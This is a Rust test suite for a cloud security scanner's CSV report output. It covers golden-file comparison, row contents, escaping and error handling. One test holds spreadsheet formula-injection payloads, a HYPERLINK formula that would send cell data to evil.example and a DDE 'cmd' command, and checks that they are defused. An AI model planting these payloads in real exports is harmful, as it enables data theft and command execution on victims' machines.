//! The CSV report: a golden file for a fixed, hand-built report
//! (`RAMPART_BLESS=1 cargo test -p rampart-reporter --test csv` rewrites
//! `tests/golden/report.csv`), and round trips through the csv reader for
//! hostile values: formula triggers, quotes, commas, line breaks, escapes.

mod common;
use common::hop;

use std::sync::LazyLock;

use rampart_model::time::OffsetDateTime;
use rampart_model::{
    CheckMeta, ExposurePath, Finding, Layer, PathKind, PortRange, Remediation, Report, Severity,
    SnapshotInfo, Status, Summary, ToolInfo,
};
use rampart_reporter::Emit;
use rampart_reporter::csv::{COLUMNS, Csv};

fn meta(id: &str, layer: Layer, severity: Severity, title: &str) -> CheckMeta {
    CheckMeta {
        id: id.into(),
        slug: id.to_ascii_lowercase(),
        layer,
        severity,
        title: title.into(),
        rationale: "Because.".into(),
        remediation: Remediation {
            console: "console".into(),
            cli: "cli".into(),
            terraform: "terraform".into(),
        },
        references: vec![],
        fsbp: vec![],
        cis: vec![],
        mapping: vec![],
        also_scored_in: vec![],
    }
}

static METAS: LazyLock<Vec<CheckMeta>> = LazyLock::new(|| {
    vec![
        meta(
            "EDGE-001",
            Layer::Edge,
            Severity::High,
            "Public API stages sit behind a WAF",
        ),
        meta(
            "INST-001",
            Layer::Instance,
            Severity::High,
            "Instances require IMDSv2",
        ),
        meta(
            "NET-005",
            Layer::Network,
            Severity::Critical,
            "Admin ports are not open to the internet",
        ),
        meta(
            "DATA-002",
            Layer::Data,
            Severity::Medium,
            "Instance roles do not grant wildcard actions",
        ),
    ]
});

fn lookup(id: &str) -> Option<&'static CheckMeta> {
    METAS.iter().find(|m| m.id == id)
}

fn finding(
    check_id: &str,
    severity: Severity,
    status: Status,
    arn: &str,
    region: Option<&str>,
    message: &str,
    path: Option<ExposurePath>,
) -> Finding {
    common::finding_in(
        "123456789012",
        check_id,
        severity,
        status,
        arn,
        region,
        message,
        path,
    )
}

fn report(findings: Vec<Finding>) -> Report {
    Report {
        schema_version: rampart_model::REPORT_SCHEMA_VERSION,
        tool: ToolInfo {
            name: "rampart".into(),
            version: "0.1.0".into(),
        },
        snapshot: SnapshotInfo {
            account_id: "123456789012".into(),
            partition: "aws".into(),
            collected_at: OffsetDateTime::from_unix_timestamp(1_795_000_000).unwrap(),
            regions: vec!["us-east-1".into()],
            complete: false,
            collection_errors: 1,
            credential_source: None,
        },
        summary: Summary::of(&findings),
        scorecards: vec![],
        findings,
        checks: vec![],
        expired_suppressions: vec![],
        baseline: None,
    }
}

/// Every status, a path, a global (IAM) resource with the backends it
/// affects, a check without metadata, and a message with a comma and quotes.
fn fixed_report() -> Report {
    let instance = "arn:aws:ec2:us-east-1:123456789012:instance/i-0abc";
    let gateway = ExposurePath {
        protocol: Default::default(),
        kind: PathKind::Gateway,
        hops: vec![
            hop("internet", "*", "internet", &[]),
            hop(
                "api-stage",
                "a1b2/prod",
                "api a1b2/prod",
                &["no WAF", "no auth"],
            ),
            hop("load-balancer", "nlb-1", "nlb/int-api", &[]),
            hop("instance", "i-0abc", "i-0abc", &[]),
        ],
        ports: vec![PortRange {
            from: 8080,
            to: 8080,
        }],
    };
    let direct = ExposurePath {
        protocol: Default::default(),
        kind: PathKind::Direct,
        hops: vec![
            hop("internet", "0.0.0.0/0", "internet", &[]),
            hop("instance", "i-0abc", "i-0abc", &[]),
        ],
        ports: vec![PortRange { from: 22, to: 22 }],
    };
    report(vec![
        finding(
            "EDGE-001",
            Severity::High,
            Status::Fail,
            "arn:aws:apigateway:us-east-1::/restapis/a1b2/stages/prod",
            Some("us-east-1"),
            "stage prod of API \"orders\" has no web ACL, and no authorizer",
            Some(gateway),
        ),
        finding(
            "NET-005",
            Severity::Critical,
            Status::Fail,
            instance,
            Some("us-east-1"),
            "port 22 open to 0.0.0.0/0 via sg-1",
            Some(direct),
        ),
        finding(
            "INST-001",
            Severity::High,
            Status::Pass,
            instance,
            Some("us-east-1"),
            "IMDSv2 required",
            None,
        ),
        {
            // Filed on the role, with the instances that use it.
            let mut role = finding(
                "DATA-002",
                Severity::Medium,
                Status::NotEvaluated("iam:GetPolicyVersion denied (access-denied)".into()),
                "arn:aws:iam::123456789012:role/app",
                None,
                "the role's policies were not collected",
                None,
            );
            role.affected = vec![
                instance.into(),
                "arn:aws:ec2:us-east-1:123456789012:instance/i-0def".into(),
            ];
            role
        },
        finding(
            "XTRA-999",
            Severity::Low,
            Status::Fail,
            instance,
            Some("us-east-1"),
            "a check this build has no metadata for",
            None,
        ),
    ])
}

fn render(r: &Report) -> String {
    let mut out = Vec::new();
    Csv.emit(r, &lookup, &mut out).expect("emit csv");
    String::from_utf8(out).expect("utf-8")
}

/// Reads the CSV back: the header, then every row as a column -> value map.
fn read_back(text: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(header, COLUMNS);
    reader
        .records()
        .map(|r| {
            let r = r.expect("record");
            assert_eq!(r.len(), COLUMNS.len(), "{r:?}");
            header
                .iter()
                .cloned()
                .zip(r.iter().map(str::to_string))
                .collect()
        })
        .collect()
}

#[test]
fn csv_matches_the_golden_file() {
    common::golden("report.csv", &render(&fixed_report()));
}

#[test]
fn csv_has_one_row_per_finding_of_every_status() {
    let r = fixed_report();
    let rows = read_back(&render(&r));
    assert_eq!(rows.len(), r.findings.len());
    let statuses: Vec<&str> = rows.iter().map(|r| r["status"].as_str()).collect();
    assert_eq!(statuses, ["fail", "fail", "pass", "not-evaluated", "fail"]);
    for (row, f) in rows.iter().zip(&r.findings) {
        assert_eq!(row["check_id"], f.check_id);
        assert_eq!(row["fingerprint"], f.fingerprint.to_string());
        assert_eq!(row["resource_arn"], f.resource_arn);
    }
    assert_eq!(rows[0]["layer"], "edge");
    assert_eq!(rows[0]["title"], "Public API stages sit behind a WAF");
    assert_eq!(
        rows[0]["path"],
        "internet -> api a1b2/prod (no WAF, no auth) -> nlb/int-api -> i-0abc"
    );
    assert_eq!(rows[2]["reason"], "");
    assert_eq!(rows[2]["path"], "");
    assert_eq!(
        rows[3]["reason"],
        "iam:GetPolicyVersion denied (access-denied)"
    );
    assert_eq!(rows[3]["region"], "", "global resources have no region");
    assert_eq!(rows[3]["affected_count"], "2");
    assert_eq!(
        rows[3]["affected"],
        "arn:aws:ec2:us-east-1:123456789012:instance/i-0abc \
         arn:aws:ec2:us-east-1:123456789012:instance/i-0def"
    );
    assert_eq!(
        (
            rows[0]["affected_count"].as_str(),
            rows[0]["affected"].as_str()
        ),
        ("0", "")
    );
    // A check the lookup does not know still gets its row.
    assert_eq!(
        (rows[4]["layer"].as_str(), rows[4]["title"].as_str()),
        ("", "")
    );
}

#[test]
fn csv_empty_report_is_just_the_header() {
    assert_eq!(render(&report(vec![])), format!("{}\n", COLUMNS.join(",")));
}

/// One finding whose account-controlled fields carry `value`, read back.
fn round_trip(value: &str) -> std::collections::BTreeMap<String, String> {
    let mut f = finding(
        "NET-005",
        Severity::Critical,
        Status::NotEvaluated(value.into()),
        value,
        Some("us-east-1"),
        value,
        None,
    );
    f.account_id = value.into();
    let mut rows = read_back(&render(&report(vec![f])));
    assert_eq!(rows.len(), 1);
    rows.remove(0)
}

#[test]
fn csv_formula_injection_is_defused() {
    for (raw, want) in [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        ),
        ("+1", "'+1"),
        ("@x", "'@x"),
        ("-2", "'-2"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "'\r=1+1"),
    ] {
        let row = round_trip(raw);
        for col in ["reason", "resource_arn", "account_id", "message"] {
            assert_eq!(row[col], want, "{col} for {raw:?}");
        }
        // Our own values are never touched.
        assert_eq!(row["check_id"], "NET-005");
        assert_eq!(row["region"], "us-east-1");
    }
}

#[test]
fn csv_harmless_values_are_not_prefixed() {
    for v in ["a=b", "1+1", "x@y", "arn:aws:iam::1:role/a-b", "sg-1"] {
        assert_eq!(round_trip(v)["message"], v);
    }
}

#[test]
fn csv_quotes_commas_and_newlines_round_trip() {
    for v in [
        "say \"hi\"",
        "a,b,c",
        "line 1\nline 2",
        "crlf\r\ninside",
        "\"quoted\", with comma\nand newline",
        "",
    ] {
        assert_eq!(round_trip(v)["message"], v, "{v:?}");
    }
}

#[test]
fn csv_control_characters_become_spaces() {
    let row = round_trip("tag \u{1b}[2Jvalue\u{0}\u{7}\tend");
    assert_eq!(row["message"], "tag  [2Jvalue   end");
}

/// A closed pipe must reach the CLI as `BrokenPipe` (it then exits quietly,
/// as for `rampart check --format csv | head`), not as csv's wrapped `Other`.
#[test]
fn csv_write_errors_keep_their_io_kind() {
    struct ClosedPipe;
    impl std::io::Write for ClosedPipe {
        fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
            Err(std::io::ErrorKind::BrokenPipe.into())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Err(std::io::ErrorKind::BrokenPipe.into())
        }
    }
    let err = Csv
        .emit(&fixed_report(), &lookup, &mut ClosedPipe)
        .unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::BrokenPipe, "{err:?}");
}

#[test]
fn csv_marks_suppressed_and_baseline_findings() {
    let r = common::fixture::fixed_report();
    let mut out = Vec::new();
    Csv.emit(&r, &common::fixture::lookup, &mut out).unwrap();
    let rows = read_back(&String::from_utf8(out).unwrap());
    assert_eq!(rows.len(), r.findings.len());
    let admin = rows.iter().find(|r| r["check_id"] == "INST-003").unwrap();
    assert_eq!(admin["status"], "fail");
    assert_eq!(
        admin["suppressed"],
        "break-glass role, reviewed by secops <SEC-42>"
    );
    assert_eq!(admin["suppression_source"], "rampart.toml:3");
    let ssh = rows.iter().find(|r| r["check_id"] == "NET-005").unwrap();
    assert_eq!(
        (ssh["baseline"].as_str(), ssh["suppressed"].as_str()),
        ("new", "")
    );
    let pass = rows.iter().find(|r| r["status"] == "pass").unwrap();
    assert_eq!(pass["baseline"], "");
}
